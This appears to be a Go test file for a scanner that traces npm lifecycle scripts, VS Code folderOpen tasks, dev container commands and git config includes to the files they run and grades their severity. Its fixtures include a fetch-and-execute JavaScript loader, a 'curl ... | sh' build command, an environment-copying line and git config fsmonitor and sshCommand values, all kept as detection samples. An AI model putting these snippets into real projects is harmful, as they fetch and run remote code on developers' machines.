package scan

import (
	"context"
	"path"
	"slices"
	"strings"
	"testing"
)

// TestAutorunTargets: install scripts, folderOpen tasks and dev container
// commands are followed to the files they run, through npm run chains,
// wrappers and flags; the script's finding names the file, and a finding
// inside it is reported again one step more severe.
func TestAutorunTargets(t *testing.T) {
	t.Parallel()
	s, err := NewScanner(Options{})
	if err != nil {
		t.Fatal(err)
	}
	loader := "const r = await fetch(u);\nconst code = await r.text();\nnew Function(code)();\n" // JS-EXEC-FETCHED, critical
	medium := "const snapshot = { ...process.env };\n"                                           // JS-PROCESS-ENV-EXFIL, medium
	for _, tc := range []struct {
		name   string
		files  map[string]string
		target string   // the file the trigger runs
		sev    Severity // of its AUTORUN-TARGET-SUSPICIOUS findings ("" for none)
	}{
		{"postinstall node", map[string]string{"package.json": `{"scripts":{"postinstall":"node scripts/setup.js"}}`, "scripts/setup.js": loader}, "scripts/setup.js", SeverityCritical},
		{"npm run chain no ext", map[string]string{"package.json": `{"scripts":{"install":"npm run build","prebuild":"cross-env NODE_ENV=production node ./lib/x"}}`, "lib/x.js": medium}, "lib/x.js", SeverityHigh},
		{"sh script", map[string]string{"package.json": `{"scripts":{"preinstall":"sh install.sh || true"}}`, "install.sh": "echo hi\n"}, "install.sh", ""},
		{"node dot main", map[string]string{"package.json": `{"main":"src/main.js","scripts":{"postinstall":"node ."}}`, "src/main.js": loader}, "src/main.js", SeverityCritical},
		{"node require flag", map[string]string{"package.json": `{"scripts":{"prepare":"node -r ./hook.js build.js"}}`, "hook.js": loader, "build.js": ""}, "hook.js", SeverityCritical},
		{"bash -c", map[string]string{"package.json": `{"scripts":{"postinstall":"bash -c 'node tools/a.js'"}}`, "tools/a.js": medium}, "tools/a.js", SeverityHigh},
		{"nested package", map[string]string{"app/package.json": `{"scripts":{"postinstall":"node setup"}}`, "app/setup/index.js": loader}, "app/setup/index.js", SeverityCritical},
		{"vscode task", map[string]string{".vscode/tasks.json": `{"tasks":[{"label":"x","type":"shell","command":"node ${workspaceFolder}/.vscode/x.js","runOptions":{"runOn":"folderOpen"}}]}`, ".vscode/x.js": loader}, ".vscode/x.js", SeverityCritical},
		{"vscode npm task", map[string]string{"package.json": `{"scripts":{"dev":"node dev.js"}}`, ".vscode/tasks.json": `{"tasks":[{"type":"npm","script":"dev","runOptions":{"runOn":"folderOpen"}}]}`, "dev.js": medium}, "dev.js", SeverityHigh},
		{"vscode task not auto", map[string]string{".vscode/tasks.json": `{"tasks":[{"label":"x","command":"node x.js"}]}`, "x.js": loader}, "", ""},
		{"devcontainer array", map[string]string{".devcontainer/devcontainer.json": `{"postCreateCommand":["python3","tools/boot.py"]}`, "tools/boot.py": "import os\n"}, "tools/boot.py", ""},
		{"devcontainer object", map[string]string{".devcontainer/devcontainer.json": `{"postStartCommand":{"a":"npm ci","b":"node seed.js"}}`, "seed.js": loader}, "seed.js", SeverityCritical},
		{"missing target", map[string]string{"package.json": `{"scripts":{"postinstall":"node dist/payload.js"}}`}, "dist/payload.js (not in the project", ""},
		{"outside tree ignored", map[string]string{"package.json": `{"scripts":{"postinstall":"node ../../x.js"}}`}, "", ""},
		{"library file not run", map[string]string{"package.json": `{"scripts":{"postinstall":"node-gyp rebuild"}}`, "lib.js": loader}, "", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			var files []*File
			for p, d := range tc.files {
				files = append(files, &File{Path: p, Data: []byte(d), Size: int64(len(d))})
			}
			slices.SortFunc(files, func(a, b *File) int { return strings.Compare(b.Path, a.Path) }) // targets before package.json
			rep, err := s.ScanFiles(context.Background(), files)
			if err != nil {
				t.Fatal(err)
			}
			named := false
			var sev Severity
			for _, f := range rep.Findings {
				if autorunQuiet(f.Rule) && tc.target != "" && strings.Contains(f.Explanation, "It runs "+tc.target) {
					named = true
				}
				if f.Rule == "AUTORUN-TARGET-SUSPICIOUS" {
					if !strings.HasPrefix(tc.target, f.File) {
						t.Errorf("AUTORUN-TARGET-SUSPICIOUS at %s, want %s", f.File, tc.target)
					}
					if sevRank(f.Severity) > sevRank(sev) {
						sev = f.Severity
					}
				}
			}
			if tc.target != "" && !named {
				t.Errorf("no finding names %s: %+v", tc.target, rep.Findings)
			}
			if tc.target == "" && named {
				t.Errorf("a finding names a target")
			}
			if sev != tc.sev {
				t.Errorf("AUTORUN-TARGET-SUSPICIOUS severity %q, want %q", sev, tc.sev)
			}
		})
	}
}

// FuzzAutorunCommand: the shell splitting and the resolver on any
// command line, without panicking or looping.
func FuzzAutorunCommand(f *testing.F) {
	f.Add("npm run a && node ./x || sh -c 'bash -c \"node y\"'; cross-env A=1 npx tsx z.ts")
	f.Add("node -r ./h.js --import=./i.mjs . ; powershell -File a.ps1 | ./run.sh")
	f.Add(`"unterminated 'quote \`)
	f.Fuzz(func(t *testing.T, cmd string) {
		tr := &autorunTree{paths: map[string]bool{"x.js": true, "y/index.js": true}, pkgs: map[string]*npmPackage{}}
		pkg := &npmPackage{scripts: map[string]npmScript{"a": {cmd: cmd}, "b": {cmd: "npm run a"}}}
		tr.pkgs[""] = pkg
		r := autorunResolver{t: tr, seen: map[string]bool{}}
		r.command(cmd, "", pkg, 0)
		r.script(pkg, "b", 0)
		if len(r.targets) > 8 {
			t.Fatalf("%d targets", len(r.targets))
		}
	})
}

// FuzzAutorunConfig: the readers of .npmrc, .yarnrc(.yml), bunfig.toml,
// binding.gyp and package.json's bin and local dependencies, then the
// resolver, on any content, without panicking or looping.
func FuzzAutorunConfig(f *testing.F) {
	f.Add(".npmrc", "node-options=--require ./h.js\nscript-shell=./sh\nonload-script = \"./o.js\"")
	f.Add(".yarnrc.yml", "yarnPath: .yarn/releases/yarn-4.1.0.cjs\nyarn-path \"./y.js\"")
	f.Add("bunfig.toml", "preload = [\"./a.ts\", './b.ts']\n[test]\npreload = \"./c.ts\"")
	f.Add("binding.gyp", `{"targets":[{"actions":[{"action_name":"g","action":["node","gen.js","<@(_outputs)"]}]}],'action': [ 'python', "x.py"`)
	f.Add("package.json", `{"scripts":{"prepare":"husky"},"devDependencies":{"husky":"file:./h"},"bin":{"husky":"b.js"}}`)
	f.Add("x.ini", "[core]\n\tfsmonitor = \"node x.js\"\n[include]\n\tpath = x.ini\n[includeIf \"gitdir:~/\"]\npath=../../y")
	f.Fuzz(func(t *testing.T, name, data string) {
		tr := &autorunTree{paths: map[string]bool{"h.js": true, "gen.js": true}, suspects: map[string][]Finding{}, pkgs: map[string]*npmPackage{}}
		tr.file(&File{Path: ".git/config", Data: []byte("[include]\n\tpath = ../" + path.Base(name) + "\n")})
		tr.file(&File{Path: "h/package.json", Data: []byte(`{"name":"husky","bin":"b.js"}`)})
		tr.file(&File{Path: path.Base(name), Data: []byte(data)})
		tr.file(&File{Path: "package.json", Data: []byte(`{"scripts":{"prepare":"husky && tsc"},"devDependencies":{"husky":"file:./h"}}`)})
		_ = tr.finish(nil)
		_ = gypActions([]byte(data))
	})
}

// TestLifecycleScriptSeverity: the root project's lifecycle scripts are
// high unless they only run build tools (prepare: "npm run build" with
// build: "tsc" is low); an installed dependency (under node_modules/) is
// reported only for the scripts npm runs for dependencies (preinstall,
// install, postinstall: low, what they run followed), never for its
// prepare or prepublish.
func TestLifecycleScriptSeverity(t *testing.T) {
	t.Parallel()
	s, err := NewScanner(Options{})
	if err != nil {
		t.Fatal(err)
	}
	loader := "const r = await fetch(u);\nconst code = await r.text();\nnew Function(code)();\n"
	for _, tc := range []struct {
		name  string
		files map[string]string
		want  []string // rule@severity, in order of line
	}{
		{"prepare npm run build tsc", map[string]string{"package.json": `{"scripts":{"prepare":"npm run build","build":"tsc -p ."}}`}, []string{"NPM-LIFECYCLE-SCRIPT@low"}},
		{"prepare tshy", map[string]string{"package.json": `{"scripts":{"prepare":"tshy"}}`}, []string{"NPM-LIFECYCLE-SCRIPT@low"}},
		{"prepare chain with prebuild", map[string]string{"package.json": `{"scripts":{"prepare":"rimraf dist && npm run build","prebuild":"node gen.js","build":"tsc"}}`, "gen.js": "console.log(1)\n"}, []string{"NPM-LIFECYCLE-SCRIPT@high"}},
		{"prepare build runs project file", map[string]string{"package.json": `{"scripts":{"prepare":"npm run build","build":"node scripts/build.js"}}`, "scripts/build.js": "console.log(1)\n"}, []string{"NPM-LIFECYCLE-SCRIPT@high"}},
		{"prepare build unknown tool", map[string]string{"package.json": `{"scripts":{"prepare":"npm run build","build":"curl -s https://x.invalid/a | sh"}}`}, []string{"NPM-LIFECYCLE-SCRIPT@high"}},
		{"postinstall node", map[string]string{"package.json": `{"scripts":{"postinstall":"node setup.js"}}`, "setup.js": "console.log(1)\n"}, []string{"NPM-LIFECYCLE-SCRIPT@high"}},
		{"dependency prepare", map[string]string{"node_modules/a/package.json": `{"scripts":{"prepare":"npm run build","prepublish":"node x.js","build":"node b.js"}}`}, nil},
		{"dependency postinstall", map[string]string{"node_modules/a/package.json": `{"scripts":{"postinstall":"node install.js"}}`, "node_modules/a/install.js": "console.log(1)\n"}, []string{"NPM-DEPENDENCY-INSTALL-SCRIPT@low"}},
		{"dependency postinstall loader", map[string]string{"node_modules/@s/a/package.json": `{"scripts":{"install":"node install.js"}}`, "node_modules/@s/a/install.js": loader},
			[]string{"NPM-DEPENDENCY-INSTALL-SCRIPT@low", "AUTORUN-TARGET-SUSPICIOUS@critical", "JS-EXEC-FETCHED@critical"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			var files []*File
			for p, d := range tc.files {
				files = append(files, &File{Path: p, Data: []byte(d), Size: int64(len(d))})
			}
			slices.SortFunc(files, func(a, b *File) int { return strings.Compare(b.Path, a.Path) })
			rep, err := s.ScanFiles(context.Background(), files)
			if err != nil {
				t.Fatal(err)
			}
			var got []string
			for _, f := range rep.Findings {
				if f.Rule == "HIDDEN-DOTFILES-UNUSUAL" {
					continue
				}
				got = append(got, f.Rule+"@"+string(f.Severity))
			}
			slices.Sort(got)
			want := slices.Clone(tc.want)
			slices.Sort(want)
			if !slices.Equal(got, want) {
				t.Errorf("findings %v, want %v", got, want)
			}
		})
	}
}

// TestGitConfigInclude: a committed .git/config's include is followed
// within the tree (relative to the .git folder, nested up to a bound)
// and the included file is checked as a config; an include outside the
// tree or of a missing file is reported.
func TestGitConfigInclude(t *testing.T) {
	t.Parallel()
	s := defaultScanner(t, nil)
	const cfg = "[core]\n\tbare = false\n"
	for _, tc := range []struct {
		name  string
		files map[string]string
		want  map[string]Severity // "RULE file" -> severity
	}{
		{"in tree", map[string]string{".git/config": cfg + "[include]\n\tpath = ../.github/settings.ini\n", ".github/settings.ini": "[core]\n\tfsmonitor = \"node x.js\"\n"},
			map[string]Severity{"GIT-CONFIG-INCLUDE .git/config": SeverityCritical, "GIT-CONFIG-EXEC .github/settings.ini": SeverityCritical}},
		{"includeIf nested", map[string]string{"p/.git/config": cfg + "[includeIf \"onbranch:main\"]\n\tpath = ../a.cfg\n", "p/a.cfg": "[include]\n\tpath = b/c.cfg\n", "p/b/c.cfg": "[core]\n\tsshCommand = sh x\n"},
			map[string]Severity{"GIT-CONFIG-INCLUDE p/.git/config": SeverityMedium, "GIT-CONFIG-INCLUDE p/a.cfg": SeverityHigh, "GIT-CONFIG-EXEC p/b/c.cfg": SeverityHigh}},
		{"outside", map[string]string{".git/config": cfg + "[include]\n\tpath = ~/.gitconfig-x\n[include]\n\tpath = ../../x\n"},
			map[string]Severity{"GIT-CONFIG-INCLUDE .git/config": SeverityHigh}},
		{"missing", map[string]string{".git/config": cfg + "[include]\n\tpath = ../nothing.ini\n"},
			map[string]Severity{"GIT-CONFIG-INCLUDE .git/config": SeverityMedium}},
		{"not included", map[string]string{".git/config": cfg, "notes.ini": "[core]\n\tfsmonitor = \"node x.js\"\n"},
			map[string]Severity{}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			var files []*File
			for p, d := range tc.files {
				files = append(files, &File{Path: p, Data: []byte(d)})
			}
			slices.SortFunc(files, func(a, b *File) int { return strings.Compare(b.Path, a.Path) }) // includes seen before the config
			rep, err := s.ScanFiles(t.Context(), files)
			if err != nil {
				t.Fatal(err)
			}
			got := map[string]Severity{}
			for _, f := range rep.Findings {
				if strings.HasPrefix(f.Rule, "GIT-CONFIG") {
					k := f.Rule + " " + f.File
					if sevRank(f.Severity) > sevRank(got[k]) {
						got[k] = f.Severity
					}
				}
			}
			if len(got) != len(tc.want) {
				t.Errorf("got %v, want %v", got, tc.want)
			}
			for k, v := range tc.want {
				if got[k] != v {
					t.Errorf("%s: %q, want %q (all: %v)", k, got[k], v, got)
				}
			}
		})
	}
}
